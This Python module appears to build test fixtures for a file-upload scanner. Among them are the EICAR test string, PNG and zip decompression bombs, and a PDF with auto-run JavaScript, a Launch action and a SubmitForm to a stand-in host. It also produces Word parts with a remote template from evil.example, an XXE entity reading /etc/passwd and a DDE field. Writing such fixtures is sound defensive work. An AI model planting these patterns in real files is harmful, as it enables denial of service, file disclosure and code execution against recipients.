"""Files made to harm, and files that do none: made here, byte by byte; none of them is malware."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PLACE = b"GPSMARK-53.4808"
SCRIPT = "app.alert('SCRIPTMARK')"
RUNNING_HTML = b"<html><script>HTMLMARK</script></html>"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
BODY = '<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>'
RELATIONS = '<Relationships xmlns="r">{}</Relationships>'


def jpeg(*, with_place: bool = False) -> bytes:
    """A small picture, as a phone makes it: with camera, time and place when asked for."""
    out = io.BytesIO()
    picture = Image.new("RGB", (64, 48), "teal")
    if with_place:
        marks = Image.Exif()
        marks[0x010F] = "CAMERAMARK"
        marks[0x9286] = PLACE
        marks.get_ifd(0x8825)[1] = "N"
        picture.save(out, "JPEG", exif=marks, comment=PLACE)
    else:
        picture.save(out, "JPEG")
    return out.getvalue()


def png() -> bytes:
    """A small picture."""
    out = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 0, 0, 0)).save(out, "PNG")
    return out.getvalue()


def pixel_bomb() -> bytes:
    """A PNG of 60,000 by 60,000 points in a few bytes."""
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    packed = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def pdf(arm: Callable[[pikepdf.Pdf], None] | None = None, **options: Any) -> bytes:
    """A PDF of one page; `arm` puts something in it."""
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if arm is not None:
            arm(document)
        document.save(out, **options)
    return out.getvalue()


def with_script(document: pikepdf.Pdf) -> None:
    """Scripts at opening and by name, a launch, a form that is sent, an attached file, a remote jump."""
    run = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(SCRIPT))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("LAUNCHMARK.exe"))
    document.Root.OpenAction = run
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("x"), run]))
    document.attachments["ATTACHMARK.txt"] = b"ATTACHMARK"
    send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://SENDMARK.example"))
    notes = [
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
        for action in (launch, send, document.make_indirect(run))
    ]
    document.pages[0].obj.Annots = document.make_indirect(pikepdf.Array(notes))


def locked(*, password: str) -> bytes:
    """A PDF that is locked: with a password to open, or with an owner's only."""
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=password))


def packed(entries: dict[str, str | bytes]) -> bytes:
    """A zip of these entries."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return out.getvalue()


def docx(*, main: str = WORD, body: str = BODY, relations: str = "", **more: str | bytes) -> bytes:
    """A Word document; `more` are further entries, with `__` for `/`."""
    types = f'<Types xmlns="t"><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    entries: dict[str, str | bytes] = {
        "[Content_Types].xml": types, "word/document.xml": body,
        "word/_rels/document.xml.rels": RELATIONS.format(relations),
    }  # fmt: skip
    return packed({**entries, **{name.replace("__", "/"): content for name, content in more.items()}})


def odt(content: str = "<office:document-content xmlns:office='o'/>") -> bytes:
    """An OpenDocument text."""
    return packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})


def zip_bomb() -> bytes:
    """A Word document that unpacks to 120 MB."""
    return docx(word__media__big=b"\0" * (120 * 1024 * 1024))


EXTERNAL = (
    '<Relationship Id="1" Type="http://x/attachedTemplate" Target="http://evil.example/t" TargetMode="External"/>'
)
LINK = '<Relationship Id="1" Type="http://x/hyperlink" Target="https://www.gov.uk" TargetMode="External"/>'
XXE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + BODY.replace("Hello", "&x;")
FIELD = BODY.replace("<w:t>Hello</w:t>", "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText>")
